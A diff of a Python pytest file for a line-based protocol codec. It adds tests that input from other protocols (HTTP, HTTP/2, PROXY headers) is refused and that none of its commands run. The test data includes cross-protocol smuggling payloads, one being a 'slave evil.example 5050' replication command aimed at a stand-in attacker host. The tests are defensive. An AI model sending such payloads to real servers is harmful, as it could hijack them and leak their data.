@@ -80,7 +80,7 @@ def test_a_read_of_publishes_is_one_command() -> None:
 @pytest.mark.parametrize("before", [b"", b"ping\n", b"pub s |cut", b"x" * 5_000])
 def test_after_a_whole_line_the_fast_path_is_open(before: bytes) -> None:
     """It gives a tuple, where the slow path gives an iterator."""
-    fed = codec()
+    fed = codec(begun=True)
     feed(fed, [before, b"\n"])
     assert isinstance(fed.feed(b"pub s |x\n", 9), tuple)
 
@@ -140,7 +140,7 @@ def test_no_message_is_larger_than_a_frame() -> None:
 
 
 def test_a_line_that_is_too_long_is_told_once_and_at_once() -> None:
-    fed = codec()
+    fed = codec(begun=True)
     assert flat(feed(fed, [b"x" * MAX_LINE_BYTES])) == [Code.LINE]
     assert flat(feed(fed, [b"x" * MAX_LINE_BYTES] * 5)) == []
     assert fed.pending_bytes == 0
@@ -148,7 +148,7 @@ def test_a_line_that_is_too_long_is_told_once_and_at_once() -> None:
 
 
 def test_a_line_that_is_too_long_is_not_stored() -> None:
-    fed = LineCodec((8 << 20) + 4_096, 8 << 20)
+    fed = codec(line=(8 << 20) + 4_096, message=8 << 20, begun=True)
     piece = b"x" * (64 << 10)
     tracemalloc.start()
     try:
@@ -187,7 +187,7 @@ def test_single_bytes_of_a_long_line() -> None:
 
 def test_many_short_bad_lines_in_one_read() -> None:
     data = b"x\n" * 100_000
-    fed = codec()
+    fed = codec(begun=True)
     started = time.thread_time()
     bad = sum(1 for command in fed.feed(data, len(data)) if isinstance(command, c.Invalid))
     assert bad == 100_000
@@ -270,10 +270,84 @@ def test_binary_payloads_are_not_telnet() -> None:
 
 
 def test_telnet_lines_have_the_same_limits() -> None:
-    fed = codec()
+    fed = codec(begun=True)
     assert flat(feed(fed, [CTRL_C + b"x" * 5_000, b"x" * 5_000])) == [Code.LINE]
     assert fed.pending_bytes == 0
     assert flat(feed(fed, [b"\r\nping\r\n"])) == [c.Ping()]
+
+
+# --- who is no client -------------------------------------------------------------------------------------------------
+
+POST = (
+    b"POST /quit HTTP/1.1\r\nHost: 127.0.0.1:5050\r\nquit: x\r\n quit\r\nContent-Length: 45\r\n\r\n"
+    b"quit\r\nslave evil.example 5050 * 0\r\npub s |x\r\n"
+)
+CURL_2 = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+PROXY_2 = b"\r\n\r\n\0\r\nQUIT\n!\x11\0\x0c\x7f\0\0\x01\x7f\0\0\x01\x0a\x0a\x13\xba"
+STARTS = [
+    POST,
+    b"\r\n" + POST,
+    b"GET / HTTP/1.1\nquit\n",
+    b"GET /\r\nquit\r\n",
+    b"get quit HTTP/1.0\r\nquit\r\n",
+    b"pub /x| HTTP/1.1\r\nquit\r\n",
+    b"leave /x HTTP/1.1\r\nquit\r\n",
+    b"Host: evil.example:5050\r\nquit\r\n",
+    CURL_2 + b"quit\r\n",
+    b"PROXY TCP4 192.0.2.1 192.0.2.2 40000 5050\r\nquit\r\n",
+    PROXY_2 + b"\nquit\n",
+]
+
+
+@pytest.mark.parametrize("data", STARTS)
+@pytest.mark.parametrize("size", [1, 2, 7, 1_000])
+def test_another_protocol_is_refused_and_nothing_of_it_is_done(data: bytes, size: int) -> None:
+    fed = codec()
+    (found,) = feed(fed, [data[i : i + size] for i in range(0, len(data), size)])
+    assert isinstance(found, c.Foreign)
+    assert feed(fed, [b"quit\r\n"]) == []
+    assert fed.feed_eof() == []
+
+
+@pytest.mark.parametrize("line", [b"EHLO x", b"quit: x", b"\xff\xf6hello", b"x" * 5_000, b"ping\0" + bytes(5_000)])
+@pytest.mark.parametrize("size", [1, 1_000])
+def test_after_a_first_line_that_is_no_command_nothing_is_read(line: bytes, size: int) -> None:
+    data = line + b"\r\nquit\r\n"
+    found = feed(codec(), [data[i : i + size] for i in range(0, len(data), size)])
+    (last,) = [command for command in found if not isinstance(command, c.Reply)]
+    assert isinstance(last, c.Invalid)
+    assert last.error.fatal
+    assert last.error.code in (Code.COMMAND, Code.LINE)
+
+
+@pytest.mark.parametrize("line", [b"pub", b"get s", b"sub s x", b"pub s |" + b"x" * 5_000, b"get / x"])
+def test_a_first_command_that_is_malformed_ends_nothing(line: bytes) -> None:
+    fed = codec()
+    first, *others = feed(fed, [line + b"\r\nping\r\n"])
+    assert isinstance(first, c.Invalid | c.Get)
+    assert others == [c.Ping()]
+    assert not fed.strayed
+
+
+@pytest.mark.parametrize("line", [b"GET / HTTP/1.1", b"HOST : x", b"host:x", b"POST /x HTTP/1.1"])
+def test_http_behind_a_command_is_refused_too(line: bytes) -> None:
+    first, second = feed(codec(), [b"ping\r\n" + line + b"\r\nquit\r\n"])
+    assert (first, type(second)) == (c.Ping(), c.Foreign)
+
+
+def test_a_line_that_is_no_command_is_remembered() -> None:
+    fed = codec(begun=True)
+    feed(fed, [b"pub\r\n"])
+    assert not fed.strayed
+    feed(fed, [b"nonsense\r\n"])
+    assert fed.strayed
+
+
+def test_payloads_may_look_like_http() -> None:
+    data = b"pub s |GET / HTTP/1.1\r\npub s | HTTP/1.1\r\npub s |Host: x\r\npub s| HTTP/1.1\r\n"
+    sent = [(b"s", b"GET / HTTP/1.1"), (b"s", b" HTTP/1.1"), (b"s", b"Host: x"), (b"s", b" HTTP/1.1")]
+    assert flat(feed(codec(), [data])) == sent
+    assert flat(feed(codec(), cut(data, range(len(data))))) == sent
 
 
 # --- handing over ---------------------------------------------------------------------------------------------------
@@ -285,7 +359,10 @@ TOO_LONG = b"x" * 5_000 + b"\nping\n"
 BINARY = b"pub s |\xff\xfd\x06x\r\nping\n"
 
 
-@pytest.mark.parametrize("data", [SESSION, NEGOTIATION, BINARY, TOO_LONG, CTRL_C + TOO_LONG])
+@pytest.mark.parametrize(
+    "data",
+    [SESSION, NEGOTIATION, BINARY, TOO_LONG, b"ping\n" + TOO_LONG, b"\r\nx\nping\n", b"ping\n" + CTRL_C + TOO_LONG],
+)
 def test_another_codec_goes_on_from_any_place(data: bytes) -> None:
     whole = flat(feed(codec(), [data]))
     for place in range(0, len(data) + 1, max(len(data) // 100, 1)):
@@ -294,6 +371,7 @@ def test_another_codec_goes_on_from_any_place(data: bytes) -> None:
         second.restore_state(msgpack.unpackb(msgpack.packb(first.export_state())))
         assert second.pending_bytes == first.pending_bytes
         assert second.ack == first.ack
+        assert second.strayed == first.strayed
         assert flat(found + feed(second, [data[place:]])) == whole
 
 
@@ -411,7 +489,7 @@ garbage = st.lists(
 
 @given(garbage, cuts)
 def test_garbage_gives_commands_or_clean_errors_and_holds_little(data: bytes, places: list[int]) -> None:
-    fed = codec()
+    fed = codec(begun=True)
     for piece in cut(data, places):
         for command in feed(fed, [piece]):
             assert isinstance(command, c.Command)
